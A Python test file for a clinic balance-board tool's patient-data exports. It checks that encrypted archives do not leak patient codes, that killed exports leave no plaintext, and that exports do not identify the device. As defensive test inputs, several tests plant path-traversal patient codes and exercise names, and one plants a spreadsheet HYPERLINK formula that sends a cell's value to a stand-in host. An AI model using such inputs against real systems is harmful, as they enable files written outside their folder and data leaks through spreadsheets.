"""Exports a clinic can trust: nothing written outside --out, no plaintext of an encrypted export
on any disk even when killed, an archive listing that names no patient, each recording read once
and one sync, and nothing that identifies the device. Real SQLite files and real processes."""

from __future__ import annotations

import csv
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import zlib
from pathlib import Path

import numpy as np
import pytest

from balance_board.cli import main
from clinic import actions
from clinic.export import (
    export_encrypted,
    export_for_usb,
    exported_recording_text,
    write_recordings,
)
from clinic.store import Store, compress_recording
from device.recording import Recording, parse_recording
from tests.conftest import REPO


def as_exported(store) -> dict[int, str]:
    """Each kept recording of the patient's as the exports write it (its header completed
    from the records: ``tests/test_recordings_trust.py`` checks what it holds), by trial."""
    return {kept.trial_id: exported_recording_text(kept) for kept in store.recording_texts(CODE)}


T0 = "2026-11-23T10:00:00+01:00"
CODE = "P-SECRET-4711"  # searched for in every byte the exports leave


def _recording(seconds: float = 10.0, seed: int = 0) -> Recording:
    rng = np.random.default_rng(seed)
    n = int(seconds * 80)
    loads = 17.5 + rng.normal(0, 0.3, (n, 4))
    return Recording(np.arange(n) / 80.0, loads, 440.0, 330.0, exercise="quiet-stance")


def _records(folder: Path, trials: int, *, seconds: float = 10.0) -> Path:
    """A records file with ``trials`` trials, each with its recording."""
    path = folder / "balance-board.sqlite3"
    blobs = [compress_recording(_recording(seconds, seed)) for seed in range(4)]
    with Store(path) as store, store.batch():
        store.add_patient(CODE, created_at=T0)
        session = store.start_session(CODE, T0, board="hx711")
        for i in range(trials):
            trial = store.begin_trial(session, "quiet-stance", {"eyes": "open"}, T0)
            store.finish_trial(trial, {"score": 50.0 + i % 50, "metrics": {"x_mm": 1.0}}, None, T0)
            store.set_recording(trial, blobs[i % len(blobs)])
    return path


def _files(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file()]


def test_the_encrypted_archive_lists_no_patient_code_and_opens_whole_with_its_password(tmp_path):
    pyzipper = pytest.importorskip("pyzipper")
    path = _records(tmp_path, 5)
    out = tmp_path / "stick"
    out.mkdir()
    with Store(path) as store:
        done = export_for_usb(store, CODE, out, "20261123-101500")
        expected = as_exported(store)
    assert _files(out) == [done.path] and CODE not in done.path.name
    with pyzipper.AESZipFile(done.path) as archive:
        names = archive.namelist()
        assert all(CODE not in name for name in names)  # the listing, without the password
        with pytest.raises(RuntimeError):
            archive.read(names[0])
        archive.setpassword(done.password.encode())
        rows = list(csv.DictReader(archive.read(names[0]).decode("utf-8-sig").splitlines()))
        assert names[0].endswith("trials.csv") and len(rows) == 5 and rows[0]["patient"] == CODE
        for name in names[1:]:
            trial_id = int(Path(name).name.split("-")[1])
            assert archive.read(name).decode() == expected[trial_id]
    raw = done.path.read_bytes()
    assert CODE.encode() not in raw and b"front_left_kg" not in raw and b"trial_id" not in raw


KILLED_EXPORT = """
import sys
from pathlib import Path
from clinic.export import export_encrypted
from clinic.store import Store
with Store(sys.argv[1]) as store:
    export_encrypted(store, sys.argv[2], Path(sys.argv[3]), "killed", "PASS-WORD")
print("finished")
"""


def _plaintext_in(folder: Path) -> list[str]:
    found = []
    for path in _files(folder):
        data = path.read_bytes()
        for marker in (CODE.encode(), b"front_left_kg", b"trial_id,session_id", b"quiet-stance,"):
            if marker in data:
                found.append(f"{path}: {marker!r}")
    return found


def test_a_kill_in_the_middle_of_an_encrypted_export_leaves_no_plaintext_anywhere(tmp_path):
    records = _records(tmp_path / "data", 160, seconds=30.0)
    out, scratch = tmp_path / "stick", tmp_path / "tmp"
    out.mkdir()
    scratch.mkdir()
    env = dict(os.environ, TMPDIR=str(scratch), TMP=str(scratch), TEMP=str(scratch))
    env["PYTHONPATH"] = str(REPO)
    child = subprocess.Popen(
        [sys.executable, "-c", KILLED_EXPORT, str(records), CODE, str(out)],
        cwd=REPO,
        env=env,
        stdout=subprocess.PIPE,
    )
    part = out / ".balance-board-killed.zip.part"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and child.poll() is None:
        if part.exists() and part.stat().st_size > 1_000_000:  # well into the recordings
            break
        time.sleep(0.01)
    assert child.poll() is None, "the export finished before it could be killed"
    child.send_signal(signal.SIGKILL)
    child.wait()
    assert part.exists()  # killed mid-way: the partial archive, encrypted
    assert _plaintext_in(out) == [] and _plaintext_in(scratch) == []
    assert not (out / "balance-board-killed.zip").exists()


def _edit(records: Path, sql: str) -> None:
    db = sqlite3.connect(records)
    db.execute(sql)
    db.commit()
    db.close()


@pytest.mark.parametrize("kind", ["csv", "fhir", "recordings"])
def test_a_code_edited_into_the_records_cannot_make_an_export_write_outside_out(
    tmp_path, capsys, kind
):
    data = tmp_path / "data"
    _records(data, 2)
    _edit(data / "balance-board.sqlite3", "UPDATE patient SET code = '../../../../tmp/x'")
    out = tmp_path / "deep" / "er" / "out"
    before = {str(p) for p in _files(tmp_path)}
    escaped = [Path(f"/tmp/x-{name}") for name in ("trials.csv", "bundle.json", "recordings")]
    existed = {p for p in escaped if p.exists()}
    code = main(["export", "--data-dir", str(data), "--format", kind, "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 2 and "cannot be used" in err and len(err.strip().splitlines()) == 1
    new = {str(p) for p in _files(tmp_path)} - before
    assert {p for p in new if not p.startswith(str(data))} == set()  # (the log is in data/)
    assert {p for p in escaped if p.exists()} == existed


def test_the_usb_exports_refuse_an_edited_code_too(tmp_path):
    data = tmp_path / "data"
    records = _records(data, 2)
    _edit(records, "UPDATE patient SET code = '../escape'")
    out = tmp_path / "stick"
    out.mkdir()
    with Store(records) as store:
        for kind in ("folder", "encrypted"):
            with pytest.raises(Exception, match="cannot be used"):
                actions.export_records(store, "../escape", kind, out, now_iso=T0, stamp="s")
    assert set(tmp_path.iterdir()) == {data, out} and list(out.iterdir()) == []


def test_a_patient_code_with_a_path_is_refused_at_the_command_line(tmp_path, capsys):
    args = ["patient", "--data-dir", str(tmp_path), "--code", "../../../../tmp/x"]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert "1 to 32 letters, digits" in err and len(err.strip().splitlines()) == 1


def test_an_exercise_name_edited_into_the_records_names_no_file_elsewhere(tmp_path):
    records = _records(tmp_path / "data", 1)
    _edit(records, "UPDATE trial SET exercise = '../../../escape/..'")
    out = tmp_path / "out"
    with Store(records) as store:
        [path] = write_recordings(store, CODE, out / "recordings")
    assert path.parent == out / "recordings" and path.name == "trial-00001-escape.txt"
    assert all(
        p.is_relative_to(tmp_path / "data") or p.is_relative_to(out) for p in _files(tmp_path)
    )


def test_the_recordings_export_reads_each_recording_once_and_syncs_once(tmp_path, monkeypatch):
    records = _records(tmp_path / "data", 12)
    with Store(records) as store:
        kept = as_exported(store)
    syncs, fsyncs, unpacked = [], [], []
    monkeypatch.setattr(os, "sync", lambda: syncs.append(1))
    real_fsync, real_decompress = os.fsync, zlib.decompress
    monkeypatch.setattr(os, "fsync", lambda fd: (fsyncs.append(fd), real_fsync(fd)))
    monkeypatch.setattr(zlib, "decompress", lambda b: unpacked.append(1) or real_decompress(b))
    monkeypatch.setattr("clinic.store.parse_recording", None)  # never parsed on the way out
    with Store(records) as store:
        written = write_recordings(store, CODE, tmp_path / "out")
    assert len(written) == 12 and len(unpacked) == 12  # each read once
    assert syncs == [1] and fsyncs == []  # one sync for all of them, at the end
    for path in written:
        assert path.read_text() == kept[int(path.name.split("-")[1])]  # as kept, format v1
    assert parse_recording(written[0].read_text()).extra["board"] == "hx711"


def test_no_host_name_in_the_exports_or_the_report(tmp_path, monkeypatch, capsys):
    host = "host-k7q2-nursing-home"
    monkeypatch.setattr(socket, "gethostname", lambda: host)
    monkeypatch.setattr("platform.node", lambda: host)
    data = tmp_path / "data"
    _records(data, 3)
    out = tmp_path / "out"
    for kind in ("csv", "fhir", "recordings"):
        assert main(["export", "--data-dir", str(data), "--format", kind, "--out", str(out)]) == 0
    bundle = json.loads((out / f"{CODE}-bundle.json").read_text())
    [device] = [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Device"]
    assert device["id"] == "balance-board" and device["version"][0]["value"]
    drawn = {}
    monkeypatch.setattr(
        "balance_board.cli.write_report", lambda report, path: drawn.setdefault("d", report) and 1
    )
    assert main(["report", "--data-dir", str(data), "--out", str(tmp_path / "r.pdf")]) == 0
    assert host not in drawn["d"].device and "balance board" in drawn["d"].device
    for path in _files(out):
        assert host.encode() not in path.read_bytes(), path
    with Store(data / "balance-board.sqlite3") as store:
        archive = export_encrypted(store, CODE, out, "s", "PW")
    assert host.encode() not in archive.read_bytes()
    capsys.readouterr()


def test_a_note_edited_into_the_records_never_becomes_a_spreadsheet_formula(tmp_path):
    from clinic.export import trials_csv_text
    from clinic.store import Store

    with Store(tmp_path / "r.sqlite3") as store:
        store.add_patient("P-1", created_at="2026-11-23T10:00:00+01:00")
        session = store.start_session("P-1", "2026-11-23T10:00:00+01:00", board="hx711")
        trial = store.begin_trial(session, "flamingo", {"leg": "left"}, "2026-11-23T10:00:00+01:00")
        store.finish_trial(
            trial, {"score": 50.0, "metrics": {"hold_s": -1.5}}, None, "2026-11-23T10:01:00+01:00"
        )
        store.set_note(trial, '=HYPERLINK("http://x.example/?"&A1,"see")')
        text = trials_csv_text(store, "P-1")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    assert ",-1.5" in text  # a negative number stays a number
